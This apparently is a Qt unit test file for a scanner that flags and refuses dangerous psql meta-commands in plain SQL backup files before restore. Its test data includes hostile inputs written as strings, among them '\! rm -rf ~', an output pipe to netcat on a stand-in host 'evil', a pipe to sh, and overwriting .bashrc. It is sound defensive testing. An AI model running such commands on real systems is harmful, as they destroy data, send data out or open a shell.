#include "backup/metacommandscanner.h"

#include <QTest>

// The scan that runs before a plain SQL file reaches psql: every backslash command psql would run is found
// (and only those), shell, pipe, file and connection commands are refused, whatever the chunking.
class TestMetaCommandScanner : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void findsWhatPsqlRuns_data();
    void findsWhatPsqlRuns();
    void pgDumpOutputIsAccepted();
    void chunkingDoesNotMatter();
    void copyDataEndsAtBackslashDot();
    void listIsCapped();
};

namespace {

struct Found
{
    QStringList names;
    QStringList refused;
};

Found scan(const QByteArray &sql, qsizetype chunk = 0)
{
    MetaCommandScanner scanner;
    if (chunk <= 0) {
        scanner.feed(sql);
    } else {
        for (qsizetype i = 0; i < sql.size(); i += chunk)
            scanner.feed(sql.mid(i, chunk));
    }
    scanner.finish();
    Found found;
    for (const MetaCommand &command : scanner.commands()) {
        found.names << command.name;
        if (command.refused)
            found.refused << command.name;
    }
    return found;
}

} // namespace

void TestMetaCommandScanner::findsWhatPsqlRuns_data()
{
    QTest::addColumn<QByteArray>("sql");
    QTest::addColumn<QStringList>("names");
    QTest::addColumn<QStringList>("refused");

    const QStringList none;
    QTest::newRow("shell") << QByteArray("SELECT 1;\n\\! rm -rf ~\n") << QStringList {"!"} << QStringList {"!"};
    QTest::newRow("shell without space") << QByteArray("\\!id\n") << QStringList {"!"} << QStringList {"!"};
    QTest::newRow("mid-line after SQL") << QByteArray("SELECT 1 \\g |sh\n") << QStringList {"g"} << QStringList {"g"};
    QTest::newRow("plain \\g is harmless") << QByteArray("SELECT 1 \\g\n") << QStringList {"g"} << none;
    QTest::newRow("output to pipe") << QByteArray("\\o |nc evil 80\n") << QStringList {"o"} << QStringList {"o"};
    QTest::newRow("output to file") << QByteArray("\\o /home/x/.bashrc\n") << QStringList {"o"} << QStringList {"o"};
    QTest::newRow("copy program") << QByteArray("\\copy t from program 'id'\n") << QStringList {"copy"}
                                  << QStringList {"copy"};
    QTest::newRow("include") << QByteArray("\\i /tmp/other.sql\n") << QStringList {"i"} << QStringList {"i"};
    QTest::newRow("connect elsewhere") << QByteArray("\\connect postgres\n") << QStringList {"connect"}
                                       << QStringList {"connect"};
    QTest::newRow("backquote in set") << QByteArray("\\set x `id`\n") << QStringList {"set"} << QStringList {"set"};
    QTest::newRow("set is harmless") << QByteArray("\\set ON_ERROR_STOP on\n") << QStringList {"set"} << none;
    QTest::newRow("separator then shell")
        << QByteArray("\\echo hi \\\\ \\! id\n") << QStringList {"echo", "!"} << QStringList {"!"};
    QTest::newRow("in a string") << QByteArray("SELECT '\\! id';\n") << none << none;
    QTest::newRow("doubled quote in a string") << QByteArray("SELECT 'it''s \\! id';\n") << none << none;
    QTest::newRow("after a string") << QByteArray("SELECT 'a' \\! id\n") << QStringList {"!"} << QStringList {"!"};
    QTest::newRow("E string escapes its quote") << QByteArray("SELECT E'\\' \\! id';\n") << none << none;
    QTest::newRow("standard string does not escape")
        << QByteArray("SELECT '\\' \\! id\n") << QStringList {"!"} << QStringList {"!"};
    QTest::newRow("identifier ending in e is no E string")
        << QByteArray("SELECT some'\\' \\! id\n") << QStringList {"!"} << QStringList {"!"};
    QTest::newRow("quoted identifier") << QByteArray("SELECT 1 AS \"\\! id\";\n") << none << none;
    QTest::newRow("dollar quote") << QByteArray("DO $$ BEGIN RAISE '\\!'; END $$;\n") << none << none;
    QTest::newRow("tagged dollar quote") << QByteArray(
        "CREATE FUNCTION f() RETURNS int AS $body$ SELECT 1 $$ \\! $body$ LANGUAGE sql;\n")
                                         << none << none;
    QTest::newRow("parameter is no dollar quote")
        << QByteArray("SELECT $1 \\! id\n") << QStringList {"!"} << QStringList {"!"};
    QTest::newRow("line comment") << QByteArray("-- \\! id\nSELECT 1;\n") << none << none;
    QTest::newRow("after a line comment") << QByteArray("-- x\n\\! id\n") << QStringList {"!"} << QStringList {"!"};
    QTest::newRow("nested block comment") << QByteArray("/* a /* b */ \\! id */ SELECT 1;\n") << none << none;
    QTest::newRow("after a block comment") << QByteArray("/* a */ \\! id\n") << QStringList {"!"} << QStringList {"!"};
    QTest::newRow("copy data is data") << QByteArray("COPY public.t (a) FROM stdin;\n\\! not a command\n\\N\n\\.\n")
                                       << none << none;
    QTest::newRow("command after copy data")
        << QByteArray("COPY t FROM stdin;\nx\n\\.\n\\! id\n") << QStringList {"!"} << QStringList {"!"};
    QTest::newRow("rest of the COPY line is still read")
        << QByteArray("COPY t FROM stdin; \\! id\nx\n\\.\n") << QStringList {"!"} << QStringList {"!"};
    QTest::newRow("COPY TO stdout has no data lines")
        << QByteArray("COPY t TO stdout;\n\\! id\n") << QStringList {"!"} << QStringList {"!"};
    QTest::newRow("COPY FROM stdin in a comment is no COPY")
        << QByteArray("SELECT 1 /* COPY t FROM stdin */;\n\\! id\n") << QStringList {"!"} << QStringList {"!"};
    QTest::newRow("last line without newline")
        << QByteArray("SELECT 1;\n\\! id") << QStringList {"!"} << QStringList {"!"};
    QTest::newRow("setenv") << QByteArray("\\setenv PAGER 'sh -c id'\n") << QStringList {"setenv"}
                            << QStringList {"setenv"};
    QTest::newRow("lo_export") << QByteArray("\\lo_export 1 /tmp/x\n") << QStringList {"lo_export"}
                               << QStringList {"lo_export"};
}

void TestMetaCommandScanner::findsWhatPsqlRuns()
{
    QFETCH(QByteArray, sql);
    QFETCH(QStringList, names);
    QFETCH(QStringList, refused);
    const Found found = scan(sql);
    QCOMPARE(found.names, names);
    QCOMPARE(found.refused, refused);
}

void TestMetaCommandScanner::pgDumpOutputIsAccepted()
{
    // What pg_dump 15.14 and later writes around a plain dump, with COPY data full of backslashes.
    const QByteArray dump = "--\n-- PostgreSQL database dump\n--\n\n"
                            "\\restrict pZZAiHe5if778KpkRGubf923EDUMfPCdlVy8hQlIWZOSwkUgnuV9Rlwgway0b1f\n\n"
                            "SET standard_conforming_strings = on;\n"
                            "CREATE FUNCTION public.f() RETURNS text LANGUAGE sql AS $_$SELECT '\\!'$_$;\n"
                            "COPY public.messages (id, body) FROM stdin;\n"
                            "1\tline\\nwith \\\\ backslashes \\! and \\o |x\n2\t\\N\n\\.\n\n"
                            "-- PostgreSQL database dump complete\n--\n\n"
                            "\\unrestrict pZZAiHe5if778KpkRGubf923EDUMfPCdlVy8hQlIWZOSwkUgnuV9Rlwgway0b1f\n";
    MetaCommandScanner scanner;
    scanner.feed(dump);
    scanner.finish();
    QCOMPARE(scanner.commandCount(), 2);
    QCOMPARE(scanner.refusedCount(), 0);
    QCOMPARE(scanner.commands().at(0).name, QStringLiteral("restrict"));
    QCOMPARE(scanner.commands().at(0).line, 5);
    QCOMPARE(scanner.commands().at(1).name, QStringLiteral("unrestrict"));
    QCOMPARE(scanner.lines(), 18);
}

void TestMetaCommandScanner::chunkingDoesNotMatter()
{
    const QByteArray sql = "SELECT 'a''b', E'\\'', $tag$ \\! $tag$; /* /* */ */\n"
                           "COPY t FROM stdin;\n\\! data\n\\.\n"
                           "\\echo one \\\\ \\! two\n"
                           "-- \\! comment\n\\o |x\n";
    const Found whole = scan(sql);
    QCOMPARE(whole.names, (QStringList {"echo", "!", "o"}));
    for (qsizetype chunk : {1, 2, 3, 7, 64})
        QCOMPARE(scan(sql, chunk).names, whole.names);
    // Chunks far larger than the lookahead with the interesting part straddling their edges.
    const QByteArray padded = QByteArray(3000, ' ') + sql + QByteArray(3000, ' ') + sql;
    for (qsizetype chunk : {513, 1000, 4096})
        QCOMPARE(scan(padded, chunk).names.size(), 6);
}

void TestMetaCommandScanner::copyDataEndsAtBackslashDot()
{
    // "\.x" or an indented "\." is data; only "\." alone on its line ends it.
    const QByteArray sql = "COPY t FROM stdin;\n\\.x\n \\.\n\\.\r\n\\! id\n";
    const Found found = scan(sql);
    QCOMPARE(found.names, QStringList {"!"});
}

void TestMetaCommandScanner::listIsCapped()
{
    QByteArray sql;
    for (int i = 0; i < MetaCommandScanner::MaxListed + 50; ++i)
        sql += "\\! id\n";
    MetaCommandScanner scanner;
    scanner.feed(sql);
    scanner.finish();
    QCOMPARE(scanner.commands().size(), MetaCommandScanner::MaxListed);
    QCOMPARE(scanner.commandCount(), MetaCommandScanner::MaxListed + 50);
    QCOMPARE(scanner.refusedCount(), MetaCommandScanner::MaxListed + 50);
}

QTEST_GUILESS_MAIN(TestMetaCommandScanner)
#include "tst_metacommandscanner.moc"
